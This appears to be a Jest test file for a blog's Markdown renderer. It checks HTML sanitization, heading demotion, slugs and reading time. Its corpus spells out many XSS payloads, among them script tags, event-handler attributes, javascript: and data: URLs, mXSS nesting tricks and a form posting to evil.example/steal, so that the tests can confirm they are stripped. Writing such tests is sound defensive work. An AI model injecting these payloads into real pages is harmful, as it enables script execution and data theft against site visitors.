import { readingTimeOf, renderMarkdown } from './markdown';
import { slugify } from '../../../isomorphic/slug';

const DANGEROUS_TAG =
  /<\s*\/?\s*(script|style|iframe|object|embed|form|input|button|svg|math|base|meta|link|noscript|template|frame|frameset|textarea|select)\b/i;
const EVENT_HANDLER = /<[^>]*\son[a-z]+\s*=/i;
const BAD_URL_ATTR = /\s(href|src|xlink:href|action|formaction|data)\s*=\s*["']?\s*(javascript|vbscript|data|file):/i;
const STYLE_ATTR = /<(?!t[hd]\b)[^>]*\sstyle\s*=/i;

function expectSafe(html: string): void {
  expect(html).not.toMatch(DANGEROUS_TAG);
  expect(html).not.toMatch(EVENT_HANDLER);
  expect(html).not.toMatch(BAD_URL_ATTR);
  expect(html).not.toMatch(STYLE_ATTR);
}

describe('renderMarkdown: XSS corpus', () => {
  // [name, Markdown source, text that must stay (harmless content), text that must be gone]
  const corpus: [string, string, string | null, string | null][] = [
    ['script tag', 'before <script>alert(1)</script> after', 'before', 'alert(1)'],
    ['script tag, upper case and spaces', '<SCRIPT >alert("x")</SCRIPT >safe text', 'safe text', 'alert("x")'],
    ['img onerror', 'pic <img src=x onerror=alert(1)> end', 'end', 'onerror'],
    ['markdown link to javascript:', '[click me](javascript:alert(1))', 'click me', null],
    ['mixed-case javascript: in raw HTML', '<a href="JaVaScRiPt:alert(1)">click</a>', 'click', null],
    ['entity-encoded colon in Markdown link', '[x](javascript&#58;alert(1))', null, null],
    ['entity-encoded colon in raw HTML', '<a href="javascript&#58;alert(1)">y</a>', 'y', null],
    ['entity-encoded letter', '<a href="&#106;avascript:alert(1)">z</a>', 'z', null],
    ['tab inside the scheme', '<a href="java\tscript:alert(1)">t</a>', 't', null],
    ['leading spaces before the scheme', '<a href="   javascript:alert(1)">s</a>', 's', null],
    ['vbscript:', '<a href="vbscript:msgbox(1)">vb</a>', 'vb', null],
    ['svg onload', 'text <svg onload=alert(1)></svg> more', 'more', 'onload'],
    ['svg with script inside', '<svg><script>alert(1)</script></svg>ok', 'ok', 'alert(1)'],
    ['iframe', 'a <iframe src="https://evil.example/"></iframe> b', 'b', 'evil.example'],
    ['style element', '<style>body { display: none }</style>visible', 'visible', 'display: none'],
    ['style attribute', '<p style="background:url(javascript:alert(1))">para</p>', 'para', 'background'],
    ['data: image in Markdown (left as plain text)', '![pic](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)', null, '<img'],
    ['data: URL link in raw HTML', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>', 'd', 'base64'],
    ['math with javascript href', '<math><mi xlink:href="javascript:alert(1)">m</mi></math>after', 'after', null],
    ['mXSS: math/mtext/mglyph/style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', null, 'onerror'],
    ['mXSS: noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', null, 'onerror'],
    ['object and embed', '<object data="evil.swf"></object><embed src="evil.swf">kept', 'kept', 'evil.swf'],
    ['form and input', '<form action="https://evil.example/steal"><input name="p"></form>form text', 'form text', 'evil.example'],
    ['onclick on an allowed tag', '<div onclick="alert(1)">clickable</div>', 'clickable', 'onclick'],
    ['details ontoggle', '<details open ontoggle=alert(1)><summary>sum</summary>body</details>', 'sum', 'ontoggle'],
    [
      'base, meta and link',
      '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="https://evil.example/x.css">x',
      'x',
      'evil.example',
    ],
    ['autolink javascript', '<javascript:alert(1)>', null, null],
    ['reference-style link to javascript', '[ref][1]\n\n[1]: javascript:alert(1)', 'ref', null],
    ['image with javascript src', '<img src="javascript:alert(1)" alt="a">', null, null],
    ['srcset attribute', '<img src="/ok.png" srcset="javascript:alert(1) 1x">', null, 'srcset'],
  ];

  it.each(corpus)('%s', (_name, source, kept, gone) => {
    const html = renderMarkdown(source);
    expectSafe(html);
    if (kept) expect(html).toContain(kept);
    if (gone) expect(html).not.toContain(gone);
  });

  it('has at least 20 payloads', () => {
    expect(corpus.length).toBeGreaterThanOrEqual(20);
  });
});

describe('renderMarkdown: an element left open does not swallow the words after it', () => {
  // [name, Markdown source, words that must survive]: nothing may run, and the author's text stays (as text where the markup cannot be kept).
  const cases: [string, string, string[]][] = [
    ['unclosed svg with onload', '<svg onload=alert(1)>\n\nMy words after the svg.', ['My words after the svg.']],
    ['math, then an unclosed style', '<math><mi>x</mi><style>\n\nWords after math and style.', ['Words after math and style.']],
    ['math and style on one line with the text', '<math><style>x\nWords in the same block.', ['Words in the same block.']],
    ['unclosed noscript', '<noscript>\n\nWords after noscript.', ['Words after noscript.']],
    [
      'upper case, attributes, nested',
      '<NOSCRIPT><SVG ONLOAD=alert(1) class="x"><MATH>\n\n**Bold words** and more',
      ['Bold words', 'and more'],
    ],
    ['inline, quoted handler', 'Before <svg onload="alert(1)"> after words.', ['Before', 'after words.']],
    ['unclosed at the very end', 'Closing words <svg onload=alert(1)>', ['Closing words']],
    ['unclosed at the end without its >', 'Last words <svg onload=alert(1)', ['Last words']],
    ['one of two nested svgs left open', '<svg><svg></svg>\n\nNested words.', ['Nested words.']],
    ['unclosed script', '<script>alert(1)\n\nScript words.', ['Script words.']],
    ['unclosed template holding an svg', '<template><svg onload=alert(1)>\n\nTemplate words.', ['Template words.']],
    ['an end tag inside a quoted attribute is not an end tag', '<svg><a title="</svg>">\n\nAttribute words.', ['Attribute words.']],
    ['an end tag inside a script is not an end tag', '<svg><script></svg></script>\n\nRaw words.', ['Raw words.']],
    ['unclosed comment', 'Start <!-- never closed\n\nComment words.', ['Comment words.']],
    ['unclosed select', '<select><option>o\n\nSelect words.', ['Select words.']],
  ];

  it.each(cases)('%s', (_name, source, words) => {
    const html = renderMarkdown(source);
    expectSafe(html);
    expect(html).not.toMatch(/<script/i);
    for (const word of words) expect(html).toContain(word);
  });

  it('still drops closed dangerous elements with their content', () => {
    const html = renderMarkdown('<svg onload=alert(1)><text>hidden</text></svg>\n\n<noscript>gone</noscript>\n\n<svg/>\n\nKept words.');
    expectSafe(html);
    expect(html).not.toContain('hidden');
    expect(html).not.toContain('gone');
    // A self-closed svg closes (the parser reads foreign elements so): nothing of it shows.
    expect(html).not.toContain('svg');
    expect(html).toContain('Kept words.');
  });

  it('leaves HTML without such elements as it was', () => {
    const source = '# Title\n\nText with <em>em</em>, `<svg>` in code and\n\n```html\n<svg onload=x>\n```\n\nthe end.';
    const html = renderMarkdown(source);
    expect(html).toContain('<code>&lt;svg&gt;</code>');
    expect(html).toContain('&lt;svg onload=x&gt;');
    expect(html).toContain('the end.');
  });
});

describe('renderMarkdown: what stays', () => {
  it('keeps http(s) and relative links with rel="noopener noreferrer"', () => {
    expect(renderMarkdown('[a](https://example.com/x) [b](/blog/post) [c](mailto:me@example.com)')).toBe(
      '<p><a href="https://example.com/x" rel="noopener noreferrer">a</a> <a href="/blog/post" rel="noopener noreferrer">b</a> ' +
        '<a href="mailto:me@example.com" rel="noopener noreferrer">c</a></p>\n',
    );
  });

  it('keeps http(s) and relative images', () => {
    expect(renderMarkdown('![one](https://cdn.example.com/a.png) ![two](/images/b.webp)')).toBe(
      '<p><img src="https://cdn.example.com/a.png" alt="one" /> <img src="/images/b.webp" alt="two" /></p>\n',
    );
  });

  it('gives headings slugified ids, unique within the post', () => {
    expect(renderMarkdown('# Xin chào Đà Nẵng\n\n## Setup\n\n## Setup\n\n### `npm` & friends')).toBe(
      '<h2 id="xin-chao-da-nang">Xin chào Đà Nẵng</h2>\n<h3 id="setup">Setup</h3>\n<h3 id="setup-2">Setup</h3>\n<h4 id="npm-friends"><code>npm</code> &amp; friends</h4>\n',
    );
  });

  it('escapes code and keeps the language class', () => {
    expect(renderMarkdown('```ts\nconst a = 1 < 2 && "<b>";\n```')).toBe(
      '<pre><code class="language-ts">const a = 1 &lt; 2 &amp;&amp; "&lt;b&gt;";\n</code></pre>\n',
    );
  });

  it('keeps lists, emphasis, quotes, tables with alignment and harmless raw HTML', () => {
    const html = renderMarkdown('- **bold** and *em*\n- ~~gone~~\n\n> quoted\n\n| a | b |\n|--:|:-|\n| 1 | 2 |\n\n<kbd>Ctrl</kbd>');
    expect(html).toContain('<li><strong>bold</strong> and <em>em</em></li>');
    expect(html).toContain('<s>gone</s>');
    expect(html).toContain('<blockquote>\n<p>quoted</p>\n</blockquote>');
    expect(html).toContain('<th style="text-align:right">a</th>');
    expect(html).toContain('<kbd>Ctrl</kbd>');
  });
});

describe("renderMarkdown: headings one level down (the post title is the page's only h1)", () => {
  it('renders # as h2 … ##### as h6; ###### stays h6', () => {
    expect(renderMarkdown('# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six')).toBe(
      '<h2 id="one">One</h2>\n<h3 id="two">Two</h3>\n<h4 id="three">Three</h4>\n<h5 id="four">Four</h5>\n<h6 id="five">Five</h6>\n<h6 id="six">Six</h6>\n',
    );
  });

  it('demotes setext headings and raw HTML headings too, keeping their ids', () => {
    expect(renderMarkdown('Title\n=====\n\nPart\n----')).toBe('<h2 id="title">Title</h2>\n<h3 id="part">Part</h3>\n');
    expect(renderMarkdown('<h1 id="raw" class="x">Raw</h1>\n<h6>Deep</h6>')).toBe('<h2 id="raw">Raw</h2>\n<h6>Deep</h6>');
  });

  it('never yields an h1, whatever the source', () => {
    const html = renderMarkdown('# a\n\n<h1>b</h1>\n\n<H1 id="c">c</H1>\n\nd\n=');
    expect(html).not.toMatch(/<\/?h1\b/i);
    expect(html.match(/<h2\b/g)).toHaveLength(4);
  });

  it('leaves heading-like text in code and attributes escaped, not turned into tags', () => {
    expect(renderMarkdown('`<h1>` [x](/a "<h1>")')).toBe(
      '<p><code>&lt;h1&gt;</code> <a href="/a" title="&lt;h1&gt;" rel="noopener noreferrer">x</a></p>\n',
    );
  });
});

describe('readingTimeOf', () => {
  it.each([
    ['', 1],
    ['one two three', 1],
    [Array(200).fill('w').join(' '), 1],
    [Array(201).fill('w').join(' '), 2],
    [Array(1200).fill('w').join('\n'), 6],
  ])('%#: words / 200 rounded up, at least 1', (source, minutes) => {
    expect(readingTimeOf(source)).toBe(minutes);
  });
});

describe('slugify (docs/requirements.md#slugs)', () => {
  it.each([
    ['Hello World', 'hello-world'],
    ['  Xin chào Đà Nẵng!  ', 'xin-chao-da-nang'],
    ['Crème brûlée -- à la carte', 'creme-brulee-a-la-carte'],
    ['C++ & C# (2024)', 'c-c-2024'],
    ['---', ''],
    ['Đường đi', 'duong-di'],
  ])('%p → %p', (input, expected) => {
    expect(slugify(input)).toBe(expected);
  });
});
